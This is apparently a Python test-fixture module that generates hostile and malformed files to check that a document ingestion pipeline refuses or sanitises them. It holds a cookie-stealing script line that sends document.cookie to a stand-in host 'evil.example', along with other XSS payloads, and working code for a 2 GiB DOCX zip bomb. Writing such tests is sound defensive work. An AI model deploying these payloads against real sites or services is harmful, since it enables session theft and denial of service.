"""Hostile and broken input files for ingestion tests, one per function.

Each function writes one file into a directory and returns its path (valid-but-tricky
samples return a small dataclass that also says what ingestion should make of them).
`create_all` writes the whole set, for batch tests that must refuse the bad files with a
clear reason and carry on with the rest.
"""

from __future__ import annotations

import io
import random
import shutil
import zipfile
from dataclasses import dataclass
from pathlib import Path

DEJAVU_FONT = Path("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf")
ENCRYPTED_PDF_PASSWORD = "geheim"
ENCRYPTED_PDF_TEXT = (
    "Satzung über die Erhebung von Gebühren für die Abfallentsorgung. "
    "Die Gebühr für eine 120-Liter-Restmülltonne beträgt 84 Euro im Jahr."
)
BOMB_MEMBER = "word/document.xml"
BOMB_UNPACKED_BYTES = 2 * 1024**3
# Just above the product's default max_file_mb (50), so a batch run with default settings
# refuses it by size instead of chunking 50 MB of filler text.
OVERSIZED_BYTES = 50 * 1024 * 1024

LATIN1_TEXT = (
    "Hinweise zur Straßenreinigung und zum Winterdienst\n"
    "\n"
    "Die Anlieger müssen die Gehwege vor ihren Grundstücken räumen und bei Glätte streuen. "
    "Für Schäden, die durch nicht geräumte Flächen entstehen, haften die Eigentümer.\n"
    "Öffnungszeiten des Bürgerbüros: montags bis freitags von 8 bis 12 Uhr, "
    "donnerstags zusätzlich von 14 bis 18 Uhr.\n"
    "Größere Mengen Streugut erhalten Sie gegen eine Gebühr im Bauhof an der Süßbachstraße. "
    "Übrigens: Äste und Laub gehören nicht in die Straßenrinne.\n"
)
# cp1252 and Latin-1 agree on every character used here (no €, „ or “), so either decoding
# gives the same text; the umlauts and ß make the bytes invalid UTF-8.
LATIN1_ENCODING = "cp1252"

HTML_VISIBLE = (
    "Öffnungszeiten Bürgerbüro",
    "Das Bürgerbüro ist montags bis freitags von 8 bis 12 Uhr geöffnet.",
    "Bitte bringen Sie Ihren Personalausweis mit.",
)
HTML_FORBIDDEN = (
    "alert(",
    "document.cookie",
    "onerror",
    "onload",
    "javascript:",
    "color: red",
    "INJECTED",
)

# Refusal codes the product's ingestion is expected to give (pipelines/documents/errors.py);
# None means the file is valid input and must be ingested.
EXPECTED_REJECTION: dict[str, str | None] = {
    "corrupt_pdf": "corrupt",
    "encrypted_pdf": "encrypted",
    "empty_file": "empty",
    "whitespace_only": "no_text",
    "binary_as_txt": "binary",
    "latin1_text": None,
    "unsupported_exe": "unsupported",
    "unsupported_xyz": "unsupported",
    "oversized_file": "too_large",
    "docx_zip_bomb": "zip_bomb",
    "fake_docx": "corrupt",
    "html_with_script": None,
}


@dataclass(frozen=True)
class TextSample:
    """A valid file and the text ingestion must get out of it."""

    path: Path
    expected_text: str


@dataclass(frozen=True)
class HtmlSample:
    """Valid HTML: `visible` phrases must be ingested, `forbidden` ones must not appear."""

    path: Path
    visible: tuple[str, ...]
    forbidden: tuple[str, ...]


def _render_pdf(text: str) -> bytes:
    from fpdf import FPDF  # imported here so the other helpers work without fpdf2

    pdf = FPDF()
    pdf.add_page()
    pdf.add_font("DejaVu", fname=str(DEJAVU_FONT))
    pdf.set_font("DejaVu", size=12)
    pdf.multi_cell(0, 8, text)
    return bytes(pdf.output())


def corrupt_pdf(d: Path, name: str = "kaputt.pdf") -> Path:
    """PDF header and a first object, then seeded garbage; no xref, trailer or %%EOF."""
    garbage = random.Random(1701).randbytes(2048)
    body = (
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>\nendobj\n"
        b"4 0 obj\n<< /Length 5000 >>\nstream\nBT /F1 12 Tf (Abgebroch" + garbage
    )
    path = d / name
    path.write_bytes(body)
    return path


def encrypted_pdf(
    d: Path,
    name: str = "verschluesselt.pdf",
    password: str = ENCRYPTED_PDF_PASSWORD,
    algorithm: str = "RC4-128",
) -> Path:
    """A real text PDF locked with a user password (RC4 needs no extra crypto package)."""
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_render_pdf(ENCRYPTED_PDF_TEXT))))
    writer.encrypt(user_password=password, owner_password=password + "-owner", algorithm=algorithm)
    path = d / name
    with path.open("wb") as handle:
        writer.write(handle)
    return path


def empty_file(d: Path, name: str = "leer.txt") -> Path:
    path = d / name
    path.write_bytes(b"")
    return path


def whitespace_only(d: Path, name: str = "nur-leerzeichen.md") -> Path:
    path = d / name
    path.write_text("   \n\n\t  \n \r\n      \n", encoding="utf-8")
    return path


def binary_as_txt(d: Path, name: str = "daten.txt", size: int = 4096) -> Path:
    """Seeded random bytes with NULs near the start, where binary sniffing looks."""
    data = bytearray(random.Random(4711).randbytes(size))
    for offset in range(0, min(size, 8192), 97):
        data[offset] = 0
    path = d / name
    path.write_bytes(bytes(data))
    return path


def latin1_text(d: Path, name: str = "hinweise-latin1.txt") -> TextSample:
    """German text in cp1252 (an office classic): valid input, umlauts must survive."""
    path = d / name
    path.write_bytes(LATIN1_TEXT.encode(LATIN1_ENCODING))
    return TextSample(path, LATIN1_TEXT)


def unsupported_extension(d: Path, name: str = "programm.exe") -> Path:
    """A file whose extension no reader supports (an .exe gets a DOS "MZ" header)."""
    path = d / name
    if path.suffix.lower() == ".exe":
        path.write_bytes(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(112))
    else:
        path.write_text("Unbekanntes Format, aber lesbarer Text.\n", encoding="utf-8")
    return path


def oversized_file(
    d: Path, size_bytes: int = OVERSIZED_BYTES, name: str = "riesig.txt", sparse: bool = False
) -> Path:
    """Valid text of exactly size_bytes + 1 bytes.

    Written as real text by default (about 0.1 s per 50 MB). `sparse=True` is instant for
    huge sizes but leaves NUL bytes between a text head and tail, so only use it where
    the size check must come before any content check.
    """
    target = size_bytes + 1
    path = d / name
    line = b"Zeile mit gueltigem Text fuer den Test der Groessenbegrenzung.\n"
    with path.open("wb") as handle:
        if sparse:
            tail = b"\nEnde.\n"
            handle.write(line[: max(0, target - len(tail))])
            handle.seek(max(target - len(tail), 0))
            handle.write(tail[: target - handle.tell()])
        else:
            block = line * (1024 * 1024 // len(line))
            remaining = target
            while remaining > 0:
                piece = block[:remaining]
                handle.write(piece)
                remaining -= len(piece)
    return path


def docx_zip_bomb(
    d: Path, name: str = "bombe.docx", unpacked_bytes: int = BOMB_UNPACKED_BYTES
) -> Path:
    """A small, well-formed DOCX zip whose document.xml unpacks to >= unpacked_bytes.

    Spaces inside a <w:t> keep the XML well-formed, so only a size check saves a reader.
    Takes ~6 s for 2 GiB (deflate level 9 on one CPU), hence the session fixture.
    """
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/word/document.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
        "</Types>"
    )
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/officeDocument" Target="word/document.xml"/>'
        "</Relationships>"
    )
    head = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b'<w:body><w:p><w:r><w:t xml:space="preserve">Bombe'
    )
    tail = b"</w:t></w:r></w:p></w:body></w:document>"
    chunk = b" " * (4 * 1024 * 1024)
    path = d / name
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("[Content_Types].xml", content_types)
        zf.writestr("_rels/.rels", rels)
        with zf.open(BOMB_MEMBER, "w", force_zip64=True) as member:
            member.write(head)
            written = len(head) + len(tail)
            while written < unpacked_bytes:
                piece = chunk[: unpacked_bytes - written]
                member.write(piece)
                written += len(piece)
            member.write(tail)
    return path


def fake_docx(d: Path, name: str = "bericht.docx") -> Path:
    """Plain text renamed to .docx: not a zip container at all."""
    path = d / name
    path.write_text(
        "Dies ist keine Word-Datei, sondern Text mit falscher Endung.\n", encoding="utf-8"
    )
    return path


def html_with_script(d: Path, name: str = "oeffnungszeiten.html") -> HtmlSample:
    """Hostile but valid HTML: scripts, event handlers and styles must not become text."""
    visible_title, visible_hours, visible_id = HTML_VISIBLE
    html = f"""<!DOCTYPE html>
<html lang="de">
<head>
<meta charset="utf-8">
<title>{visible_title}</title>
<script>alert(1); fetch("https://evil.example/?c=" + document.cookie);</script>
<style>body {{ color: red }}</style>
</head>
<body onload="alert('onload')">
<h1>{visible_title}</h1>
<p>{visible_hours}</p>
<img src="x.png" onerror="alert('onerror')" alt="">
<p><a href="javascript:alert(2)">Mehr</a> {visible_id}</p>
<script type="text/javascript">document.write("INJECTED");</script>
</body>
</html>
"""
    path = d / name
    path.write_text(html, encoding="utf-8")
    return HtmlSample(path, HTML_VISIBLE, HTML_FORBIDDEN)


def create_all(
    d: Path, *, bomb: Path | None = None, oversized_bytes: int = OVERSIZED_BYTES
) -> dict[str, Path]:
    """Write every sample into `d`; keys match EXPECTED_REJECTION.

    Pass a prebuilt `bomb` to copy it instead of spending seconds compressing a new one.
    """
    d.mkdir(parents=True, exist_ok=True)
    files = {
        "corrupt_pdf": corrupt_pdf(d),
        "encrypted_pdf": encrypted_pdf(d),
        "empty_file": empty_file(d),
        "whitespace_only": whitespace_only(d),
        "binary_as_txt": binary_as_txt(d),
        "latin1_text": latin1_text(d).path,
        "unsupported_exe": unsupported_extension(d, "programm.exe"),
        "unsupported_xyz": unsupported_extension(d, "bild.xyz"),
        "oversized_file": oversized_file(d, oversized_bytes),
        "fake_docx": fake_docx(d),
        "html_with_script": html_with_script(d).path,
    }
    if bomb is None:
        files["docx_zip_bomb"] = docx_zip_bomb(d)
    else:
        files["docx_zip_bomb"] = Path(shutil.copyfile(bomb, d / "bombe.docx"))
    return files
